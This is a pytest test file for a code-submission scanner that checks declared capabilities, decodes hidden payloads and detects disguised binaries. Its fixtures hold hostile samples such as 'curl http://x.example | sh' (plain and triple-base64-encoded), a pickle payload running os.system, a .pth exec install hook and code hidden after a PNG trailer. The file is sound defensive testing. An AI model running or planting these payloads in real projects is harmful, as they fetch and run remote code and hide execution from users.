import struct
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from models.manifest import Capability
from models.scanning import Verdict
from tests.scanning.submission_builders import rules_of, scan_files, scan_node_code, scan_python_code

HONEST_PYTHON = '''
import json
import statistics


def summarise(values):
    """Return the mean and the median."""
    return {"mean": statistics.mean(values), "median": statistics.median(values)}


if __name__ == "__main__":
    print(json.dumps(summarise([1, 2, 3])))
'''
HONEST_NODE = """
const rows = [1, 2, 3].map((value) => ({ value, square: value * value }));
module.exports = { rows };
console.log(JSON.stringify(rows));
"""


def test_honest_code_without_capabilities_passes() -> None:
    assert scan_python_code(HONEST_PYTHON, ()).verdict is Verdict.PASS
    assert scan_node_code(HONEST_NODE, ()).verdict is Verdict.PASS


@pytest.mark.parametrize(
    ("code", "capability"),
    [
        ("import os\nos.system('ls')", Capability.PROCESS),
        ("import subprocess\nsubprocess.run(['ls'])", Capability.PROCESS),
        ("import socket", Capability.NETWORK),
        ("import requests", Capability.NETWORK),
        ("import threading", Capability.THREAD),
        ("import ctypes", Capability.NATIVE),
        ("open('x')", Capability.FILESYSTEM),
        ("import os\nos.environ['A']", Capability.ENVIRONMENT),
        ("import pickle", Capability.DESERIALISATION),
        ("eval(input)", Capability.DYNAMIC_CODE),
    ],
)
def test_an_undeclared_python_capability_is_reviewed_and_a_declared_one_passes(
    code: str, capability: Capability
) -> None:
    undeclared = scan_python_code(code, ())
    assert undeclared.verdict is Verdict.REVIEW
    assert capability in undeclared.capabilities_used
    assert scan_python_code(code, (capability,)).verdict is Verdict.PASS


@pytest.mark.parametrize(
    ("code", "capability"),
    [
        ("require('fs').readFileSync('x')", Capability.FILESYSTEM),
        ("import fs from 'node:fs/promises'", Capability.FILESYSTEM),
        ("const { spawn } = require('child_process'); spawn('ls')", Capability.PROCESS),
        ("fetch('https://example.org')", Capability.NETWORK),
        ("require('worker_threads')", Capability.THREAD),
        ("console.log(process.env.HOME)", Capability.ENVIRONMENT),
        ("new Function('a', body)", Capability.DYNAMIC_CODE),
        ("WebAssembly.compile(bytes)", Capability.NATIVE),
    ],
)
def test_an_undeclared_node_capability_is_reviewed_and_a_declared_one_passes(
    code: str, capability: Capability
) -> None:
    undeclared = scan_node_code(code, ())
    assert undeclared.verdict is Verdict.REVIEW
    assert capability in undeclared.capabilities_used
    assert scan_node_code(code, (capability,)).verdict is Verdict.PASS


def test_the_common_idiom_for_the_global_object_is_not_blocked() -> None:
    code = "var root = freeGlobal || freeSelf || Function('return this')();"
    assert scan_node_code(code, (Capability.DYNAMIC_CODE,)).verdict is Verdict.PASS


def test_a_decoded_value_is_shown_to_the_reviewer() -> None:
    report = scan_python_code("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")
    finding = next(item for item in report.violations if item.rule == "hidden.execution")
    assert finding.decoded_value == "print(1)"
    assert (finding.line, finding.file) == (2, "main.py")
    assert finding.remedy


def test_layers_of_encoding_are_opened() -> None:
    inner = b"import subprocess\nsubprocess.run(['sh', '-c', 'curl http://x.example | sh'])"
    import base64

    text = base64.b64encode(base64.b64encode(base64.b64encode(inner))).decode()
    report = scan_python_code(f"blob = '{text}'")
    assert report.verdict is Verdict.BLOCK


def test_a_file_is_scanned_whatever_its_name() -> None:
    code = "require('child_' + 'process').exec('id')"
    for name in ("notes.txt", "logo", "dist/x.min.js", "node_modules/a/index.js", "tests/data.dat"):
        assert scan_files({name: code}, "node").verdict is Verdict.BLOCK, name


def test_nothing_in_a_submission_excludes_anything() -> None:
    report = scan_files(
        {
            ".semgrepignore": "*",
            ".gitignore": "*",
            "main.py": "eval('__imp' + 'ort__(\"os\")')  # nosemgrep noqa nosec",
        }
    )
    assert report.verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("logo.png", b"\x7fELF\x02\x01\x01" + b"\0" * 64, "native.disguised"),
        ("data.txt", b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0", "native.disguised"),
        ("a.json", b"\0asm\x01\0\0\0", "native.disguised"),
        ("x.pyc", b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3", "content.bytecode"),
        ("notes.txt", b"PK\x03\x04" + b"\0" * 30, "content.disguised_archive"),
        ("model.bin", b"\x80\x04cos\nsystem\n(S'id'\ntR.", "deserialise.payload"),
        ("start.pth", b"import base64; exec(base64.b64decode('eA=='))\n", "install.hook"),
        ("sitecustomize.py", b"print(1)", "install.hook"),
        ("run.sh", b"#!/bin/sh\ncurl https://x.example/a | sh\n", "command.dangerous"),
    ],
)
def test_content_decides_what_a_file_is(name: str, data: bytes, rule: str) -> None:
    report = scan_files({name: data})
    assert rule in rules_of(report)
    assert report.verdict is Verdict.BLOCK


def test_code_after_the_end_of_a_picture_is_found() -> None:
    body = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    assert "content.polyglot" in rules_of(scan_files({"a.png": body + b"import os\nos.system('id')\n"}))


def test_wallet_addresses_count_only_with_a_valid_checksum() -> None:
    valid = scan_python_code("a = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'")
    wrong = scan_python_code("a = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD'")
    assert "wallet.address" in rules_of(valid)
    assert "wallet.address" not in rules_of(wrong)


def test_a_file_that_cannot_be_parsed_is_reviewed() -> None:
    assert scan_python_code("def (:").verdict is Verdict.REVIEW


def test_every_file_is_listed_with_its_digest() -> None:
    report = scan_files({"README.md": "# Sample"})
    assert report.files_scanned == 2
    assert all(len(file.sha256) == 64 for file in report.files)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(max_size=300),
    st.sampled_from(
        [
            "main.py",
            "a.js",
            "a.ts",
            "a.txt",
            "package.json",
            "requirements.txt",
            "pyproject.toml",
            "x.ipynb",
            "a",
        ]
    ),
)
def test_no_text_makes_the_scanner_fail(text: str, name: str) -> None:
    scan_files({name: text.encode("utf-8", "replace")})


_PIECES = st.sampled_from(
    ["eval", "exec", "(", ")", "[", "]", "'a'", "+", "x", "=", "\n", "import os", ".", "getattr", "lambda x:", "b''", "%", "{", "}",  # noqa: E501
     "require", "=>", "`", "${", "function", "new ", "Function", "base64", ";", ",", "0", "^", "chr", "__import__", "class A:\n ", "def f():\n "]  # noqa: E501
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=60).map("".join), st.sampled_from(["main.py", "a.js"]))
def test_no_assembled_code_makes_the_scanner_fail(code: str, name: str) -> None:
    report = scan_files({name: code})
    assert "scanner.error" not in rules_of(report)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_make_the_scanner_fail(data: bytes) -> None:
    scan_files({"blob": data, "blob.py": data, "blob.js": data, "blob.json": data})
